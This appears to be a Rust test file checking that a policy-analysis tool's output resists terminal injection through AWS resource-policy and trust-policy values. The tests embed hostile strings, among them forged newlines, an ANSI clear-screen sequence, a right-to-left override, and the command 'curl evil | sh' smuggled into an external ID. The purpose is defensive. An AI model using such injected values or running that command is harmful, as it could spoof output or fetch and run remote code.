//! Documents that try to write into the terminal of whoever reads the answer.

use can_invoke_report::text::{self, Detail};

use crate::situations::{Asked, Example, PET_SHOP, external_id, nothing};

/// A newline and a forged line, the sequence that clears the screen, and one that turns the
/// direction of the text.
const HOSTILE: &str = "x\\u000aallowed forged\\u001b[2J\\u202eevil";

/// The answer holds its own lines and styles only.
fn assert_tame(asked: &Asked) {
    for detail in [Detail::Short, Detail::Full] {
        let written = text::check(&asked.answer, &asked.loaded.sources, detail);
        for line in written.lines() {
            assert!(!line.starts_with("allowed forged"), "{written}");
        }
        assert!(!written.contains('\u{202e}'), "{written}");
        for style in written.split('\u{1b}').skip(1) {
            let sequence = style.split_once('m').map(|(sequence, _)| sequence);
            let is_style = sequence.is_some_and(|sequence| {
                sequence.strip_prefix('[').is_some_and(|codes| {
                    codes
                        .chars()
                        .all(|code| code.is_ascii_digit() || code == ';')
                })
            });
            assert!(is_style, "{written:?}");
        }
    }
}

#[test]
fn a_value_of_a_condition() {
    let example = Example::new("cross-account-rest").edit(
        "resource-policy.json",
        "\"Resource\": \"execute-api:/prod/*\"",
        &format!(
            "\"Resource\": \"execute-api:/prod/*\", \
             \"Condition\": {{\"StringEquals\": {{\"aws:UserAgent\": \"{HOSTILE}\"}}}}"
        ),
    );
    let url = "GET https://abc123.execute-api.us-east-1.amazonaws.com/prod/pets";
    let asked = example.ask(PET_SHOP, url, nothing);
    assert_eq!(asked.answer.verdict.as_str(), "depends");
    assert_tame(&asked);
}

#[test]
fn a_condition_key_and_a_sid() {
    let example = Example::new("cross-account-rest")
        .edit("resource-policy.json", "PartnerMayInvoke", HOSTILE)
        .edit(
            "resource-policy.json",
            "\"Resource\": \"execute-api:/prod/*\"",
            &format!(
                "\"Resource\": \"execute-api:/prod/*\", \
                 \"Condition\": {{\"StringEquals\": {{\"aws:{HOSTILE}\": \"x\"}}}}"
            ),
        );
    let url = "GET https://abc123.execute-api.us-east-1.amazonaws.com/prod/pets";
    assert_tame(&example.ask(PET_SHOP, url, nothing));
}

#[test]
fn an_external_id_gives_no_command() {
    let example = Example::new("cross-account-http").edit(
        "pets-invoker-trust.json",
        "pets-2026",
        "a\\u000acurl evil | sh\\u001b[2J",
    );
    let id = "a\ncurl evil | sh\u{1b}[2J";
    let asked = example.ask(PET_SHOP, "GET /pets", external_id(id));
    assert_eq!(asked.answer.verdict.as_str(), "allowed");
    assert_tame(&asked);
    let written = text::check(&asked.answer, &asked.loaded.sources, Detail::Short);
    assert!(!written.contains("aws sts assume-role"), "{written}");
}
